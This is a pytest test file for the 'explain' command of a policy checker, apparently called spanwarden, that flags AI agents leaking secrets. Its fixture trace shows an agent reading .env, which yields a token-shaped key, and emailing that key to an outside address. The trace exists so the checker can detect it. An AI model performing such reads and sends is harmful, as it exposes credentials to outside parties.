"""`spanwarden explain`: why there is a finding, and what did not take it back."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest

from cli.commands import call
from cli.filled_ledger import fill
from spanwarden.storage.ledger.decisions import Decisions, FindingRow, RunRow
from spanwarden.storage.ledger.ledger import Ledger

POLICY = """
rules:
  - id: secret-out
    severity: critical
    title: A secret left
    description: A secret that was read was sent.
    flow: {from: {finds: secret}, to: {effect: send}, via: value, unless: [user_said]}
    exceptions:
      - {agent: "other-*", reason: not our agent}
      - {tool: http_post, reason: another tool}
      - {expr: "to.tool == 'nothing'", reason: never}
      - {agent: bot, tool: send_email, until: 2020-01-31, reason: long ago}
"""
KEY = "ghp_16C7e42F292c6912E7710c838347Ae178B4a"
TRACE = {
    "id": "r1",
    "agent": "bot",
    "events": [
        {"type": "tool_call", "tool": "read_file", "input": {"path": ".env"}, "output": f"TOKEN={KEY}"},
        {"type": "tool_call", "tool": "send_email", "input": {"to": "z@far.example", "body": KEY}, "output": "sent"},
    ],
}


@pytest.fixture(autouse=True)
def folder(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.chdir(tmp_path)
    (tmp_path / "p.yaml").write_text(POLICY)
    (tmp_path / "t.json").write_text(json.dumps(TRACE | {"start": "2026-01-01T00:00:00Z"}))
    return tmp_path


@pytest.fixture
def finding(capsys: pytest.CaptureFixture[str]) -> str:
    _, out, _ = call(capsys, "check", "--json", "t.json", "p.yaml")
    (found,) = json.loads(out)["findings"]
    return str(found["finding_id"])


def explained(capsys: pytest.CaptureFixture[str], *arguments: str) -> Any:
    code, out, _ = call(capsys, "explain", "--json", *arguments)
    assert code == 0
    return json.loads(out)


def test_the_chain_and_what_did_not_apply(finding: str, capsys: pytest.CaptureFixture[str]) -> None:
    told = explained(capsys, finding, "t.json", "p.yaml")
    assert [(link["event"], link["role"], link["tool"]) for link in told["chain"]] == [
        (0, "source", "read_file"),
        (1, "sink", "send_email"),
    ]
    assert told["rule"]["place"] == "p.yaml:3"
    (unless,) = told["unless"]
    assert (unless["unless"], unless["place"]) == ("user_said", "p.yaml:7")
    assert unless["why"] == "no message of the user or operator has what went there"
    assert [item["reason"] for item in told["exceptions"]] == ["not our agent", "another tool", "never", "long ago"]
    assert "other agents" in told["exceptions"][0]["why"]
    assert "other tools" in told["exceptions"][1]["why"]
    assert "does not hold" in told["exceptions"][2]["why"]
    assert told["excepted_by"] is None


def test_words_of_the_run_are_shown_on_demand_only(finding: str, capsys: pytest.CaptureFixture[str]) -> None:
    plain = call(capsys, "explain", "--json", finding, "t.json", "p.yaml")[1]
    assert ".env" not in plain
    assert "far.example" not in plain
    assert KEY[:8] not in plain
    raw = explained(capsys, "--include-raw", finding, "t.json", "p.yaml")
    assert raw["chain"][0]["effects"] == ["file_read .env"]


def test_text(finding: str, capsys: pytest.CaptureFixture[str]) -> None:
    code, out, _ = call(capsys, "explain", finding, "t.json", "p.yaml")
    assert code == 0
    lines = out.splitlines()
    assert lines[0] == "CRITICAL secret-out: A secret left"
    assert "    source event 0  read_file  file_read" in out
    assert "not taken back by `unless: user_said`" in out
    assert "not excepted by 'not our agent' (p.yaml:" in out


def test_an_exception_that_counts_is_named(finding: str, folder: Path, capsys: pytest.CaptureFixture[str]) -> None:
    (folder / "p.yaml").write_text(POLICY.replace('"other-*"', '"b*"'))
    told = explained(capsys, finding, "t.json", "p.yaml")
    assert told["excepted_by"] == "not our agent"


def test_bad_usage(finding: str, capsys: pytest.CaptureFixture[str]) -> None:
    for arguments, said in (
        ((finding,), "TRACE and POLICY"),
        ((finding, "t.json"), "TRACE and POLICY"),
        (("0" * 32, "t.json", "p.yaml"), "no such finding"),
        ((finding, "t.json", "none.yaml"), "none.yaml"),
        ((finding, "none.json", "p.yaml"), "none.json"),
        ((finding, "t.json", "p.yaml", "--directory", "."), "either"),
        ((finding, "--directory", "nothing"), "no ledger here"),
    ):
        code, out, err = call(capsys, "explain", *arguments)
        assert (code, out) == (2, ""), arguments
        assert said in err


def test_a_ledger_tells_what_it_keeps(finding: str, folder: Path, capsys: pytest.CaptureFixture[str]) -> None:
    _, out, _ = call(capsys, "check", "--json", "t.json", "p.yaml")
    (found,) = json.loads(out)["findings"]
    ledger = Ledger(folder / "data")
    (folder / "data").mkdir()
    ledger.open(1)
    with ledger.writing() as connection:
        decisions = Decisions(connection)
        run = decisions.put_run(RunRow("r1", "bot", None, None, "idle", 1, 2, 2, 60, 1, 3, "d", b"{}"))
        body = json.dumps(found).encode()
        decisions.put_finding(run, FindingRow(finding, "p", "1", "secret-out", "critical", "x", 3, body))
    ledger.close()
    told = explained(capsys, finding, "--directory", "data")
    assert (told["run"], told["agent"], told["finding"]["rule"]) == ("r1", "bot", "secret-out")
    assert [link["event"] for link in told["chain"]] == [0, 1]
    assert told["exceptions"] is None
    assert "characters]" in told["chain"][0]["text"]
    code, out, _ = call(capsys, "explain", "--include-raw", finding, "--directory", "data")
    assert code == 0
    assert "github-token" in out
    assert "the ledger keeps no events" in out
    assert call(capsys, "explain", "0" * 32, "--directory", "data")[0] == 2


def test_a_ledger_tells_what_became_of_a_finding(folder: Path, capsys: pytest.CaptureFixture[str]) -> None:
    ledger = fill(folder / "data")
    with ledger.reading() as connection:
        ((found,),) = connection.execute("SELECT id FROM findings WHERE rule = 'drop-table'").fetchall()
    ledger.close()
    told = explained(capsys, found, "--directory", "data")
    assert told["status"] == "new"
    assert [(each["revision"], each["policy_version"]) for each in told["told"]] == [(1, "7")]
    (evaluation,) = told["evaluations"]
    assert (evaluation["version"], evaluation["hash"], evaluation["risk_score"]) == ("7", "hash", 40)
    assert evaluation["not_evaluable"] == [{"rule": "other-rule", "needs": ["cost"]}]
    assert {(each["exporter"], each["state"], each["error"]) for each in told["deliveries"]} == {
        ("hook", "pending", None),
        ("mail", "dead", "refused: 400"),
    }
    _, out, _ = call(capsys, "explain", found, "--directory", "data")
    assert "dead for mail, revision 1, after 0 attempts: refused: 400" in out
    assert "not evaluable: other-rule" in out
    assert "\x1b" not in out
